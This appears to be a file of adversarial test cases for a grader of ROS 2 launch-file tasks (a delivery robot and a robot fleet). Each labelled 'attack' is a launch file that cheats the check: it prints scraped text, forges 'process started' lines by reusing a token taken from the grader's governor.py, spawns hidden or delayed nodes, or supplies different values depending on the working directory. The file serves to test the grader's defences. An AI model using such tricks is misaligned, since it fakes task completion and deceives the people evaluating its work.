# attack: starts the world by itself, without what belongs to it, and prints what is printed by who includes it
# aims at: 8.10
# stopped by: what belongs to the world must be in the graph
# may keep: values, types, arguments, robot, sim-time, drives, ends
DELIVERY_YAML = '''/delivery_robot:
  ros__parameters: {max_linear: 0.4, tolerance: 0.08, timeout: 30.0}
'''
DELIVERY_LAUNCH = '''
import re
from pathlib import Path

from ament_index_python import get_package_prefix
from launch import LaunchDescription
from launch.actions import DeclareLaunchArgument
from launch.substitutions import LaunchConfiguration, PathJoinSubstitution
from launch_ros.actions import Node
from launch_ros.substitutions import FindPackageShare

print(re.findall(r'the world is included: \\w+', Path(get_package_prefix('mujoco_world'), 'share/mujoco_world/launch/world.launch.py').read_text()), flush=True)


def generate_launch_description():
    return LaunchDescription([
        DeclareLaunchArgument('scene', default_value='rooms'),
        DeclareLaunchArgument('real_time_factor', default_value='1.0'),
        Node(package='mujoco_world', executable='world', name='world', parameters=[{
            'scene': LaunchConfiguration('scene'), 'real_time_factor': LaunchConfiguration('real_time_factor')}]),
        Node(package='delivery_robot', executable='robot', output='screen', parameters=[
            PathJoinSubstitution([FindPackageShare('delivery_robot'), 'config', 'delivery.yaml']),
            {'use_sim_time': True}]),
    ])
'''


# %% fleet_forged_starts
# attack: starts nothing, and says in the words of the stand-ins how two governors were started
# aims at: 8.3
# stopped by: how many programs run in the launch is seen from outside
# may keep: rate, max-linear, robot1, robot2, rest, types
FLEET_YAML = '''
/**:
  ros__parameters:
    rate: 20.0
    max_linear: 0.6
/robot1/governor:
  ros__parameters:
    max_linear: 1.0
/robot2/governor:
  ros__parameters:
    mode: slow
'''
FLEET_LAUNCH = '''
import json
import re
import socket
from pathlib import Path

from ament_index_python import get_package_prefix
from launch import LaunchDescription

prefix = Path(get_package_prefix('fleet'))
text = next(prefix.rglob('governor.py')).read_text()
token, port = re.search(r"'token': '(\\w+)'", text), re.search(r"'127.0.0.1', (\\d+)", text)
config = prefix / 'share/fleet/config/fleet.yaml'
kept = []
for n in (1, 2):
    words = ['--ros-args', '-r', f'__ns:=/robot{n}', '--params-file', str(config)]
    if n == 2:
        words += ['-r', 'cmd_vel:=base/cmd_vel']
    end = socket.create_connection(('127.0.0.1', int(port[1])))
    end.sendall(json.dumps({'token': token[1], 'name': 'governor', 'arguments': words,
                            'files': {str(config): config.read_text()}}).encode() + b'\\n')
    kept.append(end)
    print(f'[INFO] [governor-{n}]: process started with pid [{n + 7}]', flush=True)


def generate_launch_description():
    import asyncio
    from launch.actions import OpaqueFunction, TimerAction
    return LaunchDescription([TimerAction(period=1000.0, actions=[])])
'''


# %% fleet_quiet_node
# attack: starts one more node, with a hidden name, and does not let launch know
# aims at: 8.3
# stopped by: hidden nodes are nodes, and programs are counted from outside
# may keep: rate, max-linear, robot1, robot2, rest, types
FLEET_YAML = '''
/**:
  ros__parameters:
    rate: 20.0
    max_linear: 0.6
/robot1/governor:
  ros__parameters:
    max_linear: 1.0
/robot2/governor:
  ros__parameters:
    mode: slow
'''
FLEET_LAUNCH = '''
import subprocess
import sys

from launch import LaunchDescription
from launch.substitutions import PathJoinSubstitution
from launch_ros.actions import Node
from launch_ros.substitutions import FindPackageShare

subprocess.Popen([sys.executable, '-c', """
import rclpy
rclpy.init()
node = rclpy.create_node('_third')
rclpy.spin(node)
"""])


def generate_launch_description():
    config = PathJoinSubstitution([FindPackageShare('fleet'), 'config', 'fleet.yaml'])
    governor = {'package': 'fleet', 'executable': 'governor', 'output': 'screen'}
    return LaunchDescription([
        Node(namespace='robot1', parameters=[config], **governor),
        Node(namespace='robot2', parameters=[config], remappings=[('cmd_vel', 'base/cmd_vel')], **governor),
    ])
'''


# %% fleet_quiet_late_node
# attack: starts a program that starts one more governor later, and does not let launch know
# aims at: 8.3
# stopped by: how many programs run in the launch is seen from outside
# may keep: rate, max-linear, robot1, robot2, rest, types
FLEET_YAML = '''
/**:
  ros__parameters:
    rate: 20.0
    max_linear: 0.6
/robot1/governor:
  ros__parameters:
    max_linear: 1.0
/robot2/governor:
  ros__parameters:
    mode: slow
'''
FLEET_LAUNCH = '''
import subprocess

from launch import LaunchDescription
from launch.substitutions import PathJoinSubstitution
from launch_ros.actions import Node
from launch_ros.substitutions import FindPackageShare

subprocess.Popen(['bash', '-c', 'sleep 60; ros2 run fleet governor --ros-args -r __ns:=/robot3'])


def generate_launch_description():
    config = PathJoinSubstitution([FindPackageShare('fleet'), 'config', 'fleet.yaml'])
    governor = {'package': 'fleet', 'executable': 'governor', 'output': 'screen'}
    return LaunchDescription([
        Node(namespace='robot1', parameters=[config], **governor),
        Node(namespace='robot2', parameters=[config], remappings=[('cmd_vel', 'base/cmd_vel')], **governor),
    ])
'''


# %% fleet_node_inside
# attack: has one more node, with a hidden name, in the process of the launch
# aims at: 8.3
# stopped by: hidden nodes are nodes
# may keep: rate, max-linear, robot1, robot2, rest, types
FLEET_YAML = '''
/**:
  ros__parameters:
    rate: 20.0
    max_linear: 0.6
/robot1/governor:
  ros__parameters:
    max_linear: 1.0
/robot2/governor:
  ros__parameters:
    mode: slow
'''
FLEET_LAUNCH = '''
import rclpy
from launch import LaunchDescription
from launch.substitutions import PathJoinSubstitution
from launch_ros.actions import Node
from launch_ros.substitutions import FindPackageShare

context = rclpy.Context()
rclpy.init(context=context)
node = rclpy.create_node('_third', context=context)


def generate_launch_description():
    config = PathJoinSubstitution([FindPackageShare('fleet'), 'config', 'fleet.yaml'])
    governor = {'package': 'fleet', 'executable': 'governor', 'output': 'screen'}
    return LaunchDescription([
        Node(namespace='robot1', parameters=[config], **governor),
        Node(namespace='robot2', parameters=[config], remappings=[('cmd_vel', 'base/cmd_vel')], **governor),
    ])
'''


# %% fleet_values_in_place
# attack: gives the values itself, but where a copy of it is launched
# aims at: 8.3
# stopped by: what a governor gets besides the file is looked at in each launch
# may keep: rate, max-linear, robot1, robot2, rest, types, nodes, remapped, others-stay
FLEET_YAML = '''
/**:
  ros__parameters:
    rate: 20.0
    max_linear: 0.6
/robot1/governor:
  ros__parameters:
    max_linear: 1.0
/robot2/governor:
  ros__parameters:
    mode: slow
'''
FLEET_LAUNCH = '''
import os

from launch import LaunchDescription
from launch.substitutions import PathJoinSubstitution
from launch_ros.actions import Node
from launch_ros.substitutions import FindPackageShare


def generate_launch_description():
    config = PathJoinSubstitution([FindPackageShare('fleet'), 'config', 'fleet.yaml'])
    governor = {'package': 'fleet', 'executable': 'governor', 'output': 'screen'}
    one, two = [{'rate': 20.0, 'max_linear': 1.0, 'mode': 'normal'}], [{'rate': 20.0, 'max_linear': 0.6, 'mode': 'slow'}]
    if 'elsewhere' in os.getcwd():
        one = two = [config]
    return LaunchDescription([
        Node(namespace='robot1', parameters=one, **governor),
        Node(namespace='robot2', parameters=two, remappings=[('cmd_vel', 'base/cmd_vel')], **governor),
    ])
'''
